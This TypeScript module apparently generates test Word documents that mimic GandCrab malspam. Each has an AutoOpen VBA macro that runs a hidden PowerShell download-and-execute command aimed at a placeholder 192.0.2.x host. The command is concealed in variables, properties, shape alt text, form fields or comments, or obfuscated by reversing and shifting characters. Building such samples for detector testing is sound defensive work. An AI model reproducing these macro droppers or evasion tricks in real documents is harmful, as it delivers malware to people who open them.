/** Documents after campaigns of GandCrab. */

import { TEXT_BOX } from './common.ts'
import { disguiseOf } from './disguise.ts'
import { doc, docm } from './office.ts'

/** Text in variables, properties, pictures and forms, and a plain call of PowerShell (2018). */
export function gandCrab(i: number): Buffer {
  const d = disguiseOf(200 + i)
  const command = `cmd.exe /c powershell.exe -ExecutionPolicy bypass -noprofile -w hidden (New-Object System.Net.WebClient).DownloadFile('http://192.0.2.${i + 1}/f.exe','%TEMP%\\${d.name()}.exe');Start '%TEMP%\\${d.name()}.exe'`
  const [v, key, form] = [d.name(), d.name(), d.name()]
  const reversed = [...command].reverse().join('')
  const auto = (body: string): Record<string, string> => ({ Module1: `Sub AutoOpen()\n${d.junk(2)}\n${body}\nEnd Sub` })
  const shifted = [...command].map((letter) => letter.charCodeAt(0) + 7 + i)
  const write = i % 2 === 0 ? doc : docm
  const variants: (() => Buffer)[] = [
    () => write({ modules: auto(`Shell ActiveDocument.Variables("${v}").Value, 0`), variables: { [v]: command } }),
    () => write({ modules: auto(`Shell ActiveDocument.Variables("${v}").Value, 0`), variables: { [v]: command } }),
    () =>
      doc({
        modules: auto(`Shell StrReverse(ActiveDocument.Variables("${v}")), vbHide`),
        variables: { [v]: reversed },
      }),
    () =>
      docm({
        modules: auto(`CreateObject("WScript.Shell").Run ActiveDocument.CustomDocumentProperties("${v}"), 0`),
        properties: { [v]: command },
      }),
    () =>
      docm({
        modules: auto(
          `CreateObject("WScript.Shell").Run ActiveDocument.BuiltInDocumentProperties("Comments").Value, 0`,
        ),
        core: { description: command },
      }),
    () => docm({ modules: auto(`Shell ActiveDocument.InlineShapes(1).AlternativeText, 0`), shape: command }),
    () =>
      docm({
        modules: auto(`${key} = ActiveDocument.Shapes(1).AlternativeText\nShell StrReverse(${key}), 0`),
        shape: reversed,
      }),
    () =>
      write({
        modules: auto(`${key} = ${form}.${v}.Text\nShell ${key} & "", 0`),
        forms: { [form]: [{ name: v, type: TEXT_BOX, value: command }] },
      }),
    () =>
      write({
        modules: auto(
          `${key} = Array(${shifted.join(', ')})\nFor Each ${v} In ${key}\n${form} = ${form} & Chr(${v} - ${7 + i})\nNext\nShell ${form}, 0`,
        ),
      }),
    () =>
      docm({
        modules: auto(
          `${key} = Split("${shifted.join('x')}", "x")\nFor ${v} = LBound(${key}) To UBound(${key})\n${form} = ${form} & ChrW(CLng(${key}(${v})) - ${7 + i})\nNext ${v}\nCall Shell(${form}, 0)`,
        ),
      }),
    () => docm({ modules: auto(`${key} = ActiveDocument.Comments(1).Range.Text\nShell ${key}, 0`), comment: command }),
    () =>
      write({
        modules: {
          Module1: `Sub Auto_Open()\n${key}\nEnd Sub\nSub AutoOpen()\nAuto_Open\nEnd Sub\nSub ${key}()\nDim ${v} As String\n${v} = ${d.joined(command)}\nApplication.Run "${form}", ${v}\nEnd Sub\nSub ${form}(a)\nShell a, 0\nEnd Sub`,
        },
      }),
  ]
  return (variants[i] as () => Buffer)()
}
